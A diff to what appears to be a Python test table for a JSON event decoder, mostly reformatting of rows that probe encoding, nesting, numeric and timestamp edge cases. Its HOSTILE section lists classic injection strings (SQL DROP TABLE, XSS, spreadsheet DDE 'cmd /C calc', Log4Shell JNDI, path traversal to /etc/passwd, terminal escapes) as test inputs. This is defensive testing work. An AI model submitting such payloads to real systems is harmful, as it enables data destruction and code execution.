@@ -30,7 +30,7 @@ def _and(text: bytes) -> bytes:
     return b"{%s,%s}" % (FOUR, text)
 
 
-def _field(
+def _field(  # noqa: PLR0913, PLR0917 - a row of the table
     kind: int, field: str, literal: bytes | None, outcome: str, becomes: str, why: str
 ) -> Form:
     """Return a form that is about one field."""
@@ -38,7 +38,9 @@ def _field(
     return Form(kind, field, shown, _with(**{field: literal}), outcome, becomes, why)
 
 
-def _record(kind: int, what: str, example: bytes | None, outcome: str, becomes: str, why: str) -> Form:
+def _record(  # noqa: PLR0913, PLR0917 - a row of the table
+    kind: int, what: str, example: bytes | None, outcome: str, becomes: str, why: str
+) -> Form:
     """Return a form that is about the whole record."""
     return Form(kind, "", what, example, outcome, becomes, why)
 
@@ -122,7 +124,9 @@ ENCODING = (
         "",
         "The decoder knows UTF-16 and UTF-32 by their first bytes.",
     ),
-    _record(14, "UTF-16 without a mark", FULL.decode().encode("utf-16-le"), "accepted", "", "As above."),
+    _record(
+        14, "UTF-16 without a mark", FULL.decode().encode("utf-16-le"), "accepted", "", "As above."
+    ),
     _record(14, "UTF-32", FULL.decode().encode("utf-32"), "accepted", "", "As above."),
     _record(
         15,
@@ -146,7 +150,7 @@ ENCODING = (
         _with(productCategory=b'"a\xc0\xafb"'),
         "accepted",
         "category=a/b",
-        "The decoder reads a pattern of bytes, not the rules of UTF-8: it is the slash that it says.",
+        "The decoder reads the pattern of the bytes, not the rules of UTF-8: a slash.",
     ),
     _field(18, CATEGORY, b'"a\\u0000"', "category", "", "PostgreSQL has no text with NUL."),
     _field(
@@ -186,9 +190,7 @@ ENCODING = (
         "category=cafe\N{COMBINING ACUTE ACCENT}",
         "As above: nothing is normalised.",
     ),
-    _field(
-        21, CATEGORY, '"\N{NO-BREAK SPACE}"'.encode(), "accepted", "category=\xa0", "As above."
-    ),
+    _field(21, CATEGORY, '"\N{NO-BREAK SPACE}"'.encode(), "accepted", "category=\xa0", "As above."),
     _field(
         22,
         CATEGORY,
@@ -205,7 +207,14 @@ ENCODING = (
         "category=\N{GRINNING FACE}",
         "The same character, escaped: the same category.",
     ),
-    _field(22, CATEGORY, '"{}"'.format("\N{GRINNING FACE}" * 65).encode(), "category", "", "65 characters."),
+    _field(
+        22,
+        CATEGORY,
+        '"{}"'.format("\N{GRINNING FACE}" * 65).encode(),
+        "category",
+        "",
+        "65 characters.",
+    ),
 )
 
 STRUCTURE = (
@@ -270,7 +279,12 @@ STRUCTURE = (
         "Up to 1,000 levels.",
     ),
     _record(
-        28, "nested 1,500 deep", _and(b'"x":' + b"[" * 1500 + b"]" * 1500), "unreadable", "", NOT_JSON
+        28,
+        "nested 1,500 deep",
+        _and(b'"x":' + b"[" * 1500 + b"]" * 1500),
+        "unreadable",
+        "",
+        NOT_JSON,
     ),
     _record(28, "100,000 brackets", b"[" * 100_000, "unreadable", "", NOT_JSON),
     _record(
@@ -286,7 +300,9 @@ STRUCTURE = (
         30, "a long unknown text", _and(b'"x":"%s"' % (b"y" * 60_000)), "accepted", "", "Not read."
     ),
     _field(31, ID, b'"%s"' % (b"x" * 4_096), "product", "", "64 characters at most."),
-    _field(31, ID, b'"%s"' % (b"x" * 64), "accepted", f"product={'x' * 64}", "Just as long as allowed."),
+    _field(
+        31, ID, b'"%s"' % (b"x" * 64), "accepted", f"product={'x' * 64}", "Just as long as allowed."
+    ),
     _field(
         31,
         "transactionId",
@@ -314,9 +330,7 @@ NUMBERS = (
     _field(34, MONEY, b"1e-400", "accepted", "cents=0", "Zero as a double."),
     _field(35, MONEY, b"0.125", "price", "", "A third decimal is refused, not rounded."),
     _field(35, MONEY, b"1.250", "accepted", "", "The third decimal is none."),
-    _field(
-        35, MONEY, b"1.250009", "accepted", "", "Within a thousandth of a cent of a whole one."
-    ),
+    _field(35, MONEY, b"1.250009", "accepted", "", "Within a thousandth of a cent of a whole one."),
     _field(36, MONEY, b"9999999999.99", "accepted", "cents=999999999999", "The highest price."),
     _field(36, MONEY, b"10000000000", "price", "", "Too high."),
     _field(36, QUANTITY, b"1000000", "accepted", "quantity=1000000", "The most."),
@@ -362,7 +376,9 @@ TIMES = (
     _field(45, DATE, b'"2020-01-01 00:00:00"', "late", "event=1577836800000", "A blank for the T."),
     _field(46, DATE, b'"@iso+0@.123456789"', "accepted", "event=+123s", "Finer digits are cut."),
     _field(46, DATE, b'"@iso+0@.1234567890"', "event_time", "", "Nine digits at most."),
-    _field(47, TIME, b"1763800000", "late", "event=1763800000", "Seconds are read as milliseconds."),
+    _field(
+        47, TIME, b"1763800000", "late", "event=1763800000", "Seconds are read as milliseconds."
+    ),
     _field(47, TIME, b"1763800000123456", "event_time", "", "Microseconds: beyond the year 9999."),
     _field(48, DATE, b'"2025-02-30T12:00:00"', "event_time", "", "The date must exist."),
     _field(49, DATE, b'"2025-02-20T24:00:00"', "event_time", "", "The hour must exist."),
@@ -407,30 +423,35 @@ TIMES = (
     ),
 )
 
-HOSTILE = tuple(
+HOSTILE = (
+    *(
+        _field(
+            kind,
+            CATEGORY,
+            b'"%s"' % text.encode().replace(b"\\", b"\\\\").replace(b'"', b'\\"'),
+            "accepted",
+            f"category={text}",
+            TEXT_ONLY,
+        )
+        for kind, text in (
+            (64, "x'); DROP TABLE t;--"),
+            (65, "<img src=x onerror=alert(1)>"),
+            (65, "</script>"),
+            (65, "javascript:alert(1)"),
+            (66, '=HYPERLINK("http://x")'),
+            (66, "+cmd|' /C calc'!A0"),
+            (67, "${jndi:ldap://x/a}"),
+            (67, "%s%n"),
+            (68, "../../etc/passwd"),
+            (70, "never seen before"),
+        )
+    ),
     _field(
-        kind,
-        CATEGORY,
-        b'"%s"' % text.encode().replace(b"\\", b"\\\\").replace(b'"', b'\\"'),
-        "accepted",
-        f"category={text}",
-        TEXT_ONLY,
-    )
-    for kind, text in (
-        (64, "x'); DROP TABLE t;--"),
-        (65, "<img src=x onerror=alert(1)>"),
-        (65, "</script>"),
-        (65, "javascript:alert(1)"),
-        (66, '=HYPERLINK("http://x")'),
-        (66, "+cmd|' /C calc'!A0"),
-        (67, "${jndi:ldap://x/a}"),
-        (67, "%s%n"),
-        (68, "../../etc/passwd"),
-        (70, "never seen before"),
-    )
-) + (
-    _field(69, CATEGORY, b'"a\\r\\nb"', "category", "", "Control characters: they could forge a line."),
-    _field(69, CATEGORY, b'"\\u001b[2J"', "category", "", "Control characters: a terminal obeys them."),
+        69, CATEGORY, b'"a\\r\\nb"', "category", "", "Control characters: they could forge a line."
+    ),
+    _field(
+        69, CATEGORY, b'"\\u001b[2J"', "category", "", "Control characters: a terminal obeys them."
+    ),
     _field(69, CATEGORY, b'"\\u009b2J"', "category", "", "The same in one character."),
 )
 
